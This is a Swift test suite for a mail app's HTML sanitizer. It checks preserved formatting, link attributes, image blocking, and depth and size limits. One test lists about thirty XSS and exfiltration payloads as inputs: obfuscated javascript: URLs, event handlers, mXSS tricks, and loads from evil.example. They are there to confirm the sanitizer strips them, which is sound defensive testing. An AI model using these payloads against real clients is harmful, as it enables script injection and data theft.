import Testing

@testable import Mail

@Suite struct `HTML of others` {
    private func clean(_ html: String, images: Bool = false) -> String { CleanHTML(html, images: images).html }

    @Test func `keeps what text looks like`() {
        let html =
            "<h1>Hi</h1><p align=center>One<br>two <a href='https://example.com/?a=1&amp;b=2'>here</a></p>"
            + "<table><tr><td colspan=2>x</td></tr></table>"
        #expect(
            clean(html) == """
                <h1>Hi</h1><p align="center">One<br>two <a href="https://example.com/?a=1&amp;b=2" target="_blank" \
                rel="noopener noreferrer nofollow">here</a></p><table><tr><td colspan="2">x</td></tr></table>
                """)
    }

    @Test(arguments: [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"java&#115;cript:alert(1)\">x</a>", "<a href=\" jav\tascript&colon;alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61;vascript:alert(1)\">x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<iframe src=//evil.example></iframe>",
        "<style>@import '//evil.example';</style>", "<div style=\"background:url(//evil.example)\">x</div>",
        "<meta http-equiv=refresh content=\"0;//evil.example\">",
        "<base href=//evil.example>", "<form action=//evil.example><input name=password></form>", "<object data=//evil.example></object>",
        "<p title=\"a\u{301}\" onmouseover=\"alert(1)\">x</p>", "<p title='\"><script>alert(1)</script>'>x</p>", "<p title=x\"onclick=alert(1)>x</p>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<p/onclick=alert(1)>x", "<<script>alert(1)<</script>", "<a\0href=javascript:alert(1)>x</a>", "<title><p onclick=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<img src=\"https://evil.example/pixel.png\">",
        "<link rel=stylesheet href=//evil.example>",
    ])
    func `runs nothing, fetches nothing and leads nowhere else`(evil: String) throws {
        let html = clean(evil)
        // What stands outside of text and values is ours: names of the list, and the attributes that we write.
        for match in html.matches(of: /<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/) {
            let attributes = match.2.matches(of: /([a-z]+)="([^"]*)"/)
            #expect(attributes.allSatisfy { ["align", "title", "href", "target", "rel", "colspan"].contains($0.1) })
            #expect(attributes.allSatisfy { $0.1 != "href" || $0.2.hasPrefix("https:") })
        }
        let outside = html.replacing(/<\/?[a-z0-9]+(?: [a-z]+="[^"<>]*")*>/, with: "")
        #expect(!outside.contains("<") && !html.contains("<script") && !html.contains("<img") && !html.contains("<iframe"))
    }

    @Test func `shows pictures from elsewhere once it is asked for`() {
        let html = "<img src=\"https://example.com/a.png\" alt='A \"desk\"' width=10><img src=cid:1 alt=inside>"
        #expect(CleanHTML(html, images: false).hasImages && clean(html) == "<i>[A &quot;desk&quot;]</i><i>[inside]</i>")
        #expect(clean(html, images: true) == "<img src=\"https://example.com/a.png\" alt=\"A &quot;desk&quot;\" width=\"10\"><i>[inside]</i>")
    }

    @Test func `stops at 256 elements within one another, and at a megabyte`() {
        let deep = CleanHTML(String(repeating: "<div>", count: 20_000) + "x", images: false)
        #expect(deep.isCut && deep.html.components(of: "<div>") == 256 && deep.html.components(of: "</div>") == 256 && deep.html.contains("x"))
        let long = CleanHTML(String(repeating: "word ", count: 400_000), images: false)
        #expect(long.isCut && long.html.utf8.count == 1 << 20)
        #expect(!CleanHTML("<p>x</p>", images: false).isCut)
    }

    @Test func `closes what is open, and nothing that is not`() { #expect(clean("</div><p><b>x</p></i><td>") == "<p><b>x</b></p><td></td>") }
}

extension String {
    fileprivate func components(of text: String) -> Int { matches(of: text).count }
    private func matches(of text: String) -> [Range<String.Index>] { ranges(of: text) }
}
